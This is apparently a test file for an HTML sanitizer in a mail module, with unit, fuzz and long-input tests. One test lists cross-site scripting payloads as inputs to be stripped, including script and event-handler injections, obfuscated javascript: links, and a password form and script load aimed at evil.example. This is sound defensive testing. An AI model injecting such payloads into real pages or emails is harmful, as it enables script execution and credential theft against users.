import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { safeHtml, textOfHtml } from '../../src/mail/host-html.ts';
import { ofSample } from '../support/corpora.ts';

/** HTML that a host wrote: only what is named passes, whatever it is made of. */

/** What may be left: a tag of ours, with attributes of ours. */
const OURS =
  /<\/?[a-z][a-z0-9]*(?: (?:href|align|valign|color|bgcolor|size|width|colspan|rowspan|cellpadding|cellspacing|border|dir|lang)="[^"<>]*")*>/g;

const RUNS = /<(?:script|iframe|object|embed|style|link|meta|base|form|input|img|svg|math|video)\b/i;

function check(html: string): void {
  const written = safeHtml(html);
  assert.doesNotMatch(written.replace(OURS, ''), /[<>]/, html);
  assert.doesNotMatch(written, RUNS, html);
  // A text may speak of an href too.
  for (const [, href = ''] of written.matchAll(/<[^<>]* href="([^"]*)"[^<>]*>/g)) {
    assert.match(href, /^(https?:\/\/|mailto:)/i);
  }
  assert.doesNotMatch(textOfHtml(html), /\0/);
}

describe('HTML of a host', () => {
  test('keeps what formats a text', () => {
    const html =
      '<h2 align="center">Hello</h2><p>One<br>two &amp; <b>three</b></p><ul><li>four</li></ul>' +
      '<a href="https://apples.example/?a=1&amp;b=2">apples</a>';
    assert.equal(safeHtml(html), html);
    assert.equal(
      textOfHtml(html),
      'Hello\nOne\ntwo & three\n- four\napples (https://apples.example/?a=1&b=2)',
    );
  });

  test('loses what runs, loads or covers something', () => {
    for (const html of [
      '<script>alert(1)</script>',
      '<SCRIPT SRC=//evil.example/x.js>',
      '<scr<script>ipt>alert(1)</scr</script>ipt>',
      '<img src=x onerror=alert(1)>',
      '<svg/onload=alert(1)>',
      '<a href="jav&#x09;ascript:alert(1)">x</a>',
      '<a href=" javascript:alert(1)">x</a>',
      '<a href="data:text/html,<script>alert(1)</script>">x</a>',
      '<a href="https://x.example/" onclick="alert(1)" style="position:fixed">x</a>',
      '<p style="background:url(//evil.example)">x</p>',
      '<iframe src="//evil.example"></iframe>',
      '<form action="//evil.example"><input name=PW></form>',
      '<meta http-equiv=refresh content="0;url=//evil.example">',
      '<base href="//evil.example/">',
      '<!--[if mso]><script>alert(1)</script><![endif]-->',
      '<b title="a>b"><i>',
      '<<b>script>alert(1)<</b>/script>',
      '<b \u0000onclick=alert(1)>x',
      '<b a="1',
      '<!--',
    ]) {
      check(html);
      assert.doesNotMatch(safeHtml(html), /evil|onclick|onload|onerror|javascript|style/i, html);
    }
  });

  test('of whatever it is made, only tags of ours are left', () => {
    const pieces = fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        "'",
        '</',
        '/>',
        '<!--',
        '-->',
        '<script>',
        '</script>',
        '<a href=',
        '<b ',
        'on',
        '=',
        ' ',
      ],
      ...[
        'javascript:',
        'https://x.example/',
        '&lt;',
        '&#60;',
        '\0',
        '\n',
        'text',
        '<svg',
        '<![CDATA[',
        ']]>',
      ],
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 3 })), { maxLength: 40 }), (parts) =>
        check(parts.join('')),
      ),
      { numRuns: ofSample(2_000, 4) },
    );
  });

  test('tags without an end are read to the end of the text', () => {
    for (const piece of ['<a ', '<b x="', '<!--', '<a href="https://x.example/">', '<script>', '&#', '<'])
      check(piece.repeat(20_000));
  });
});
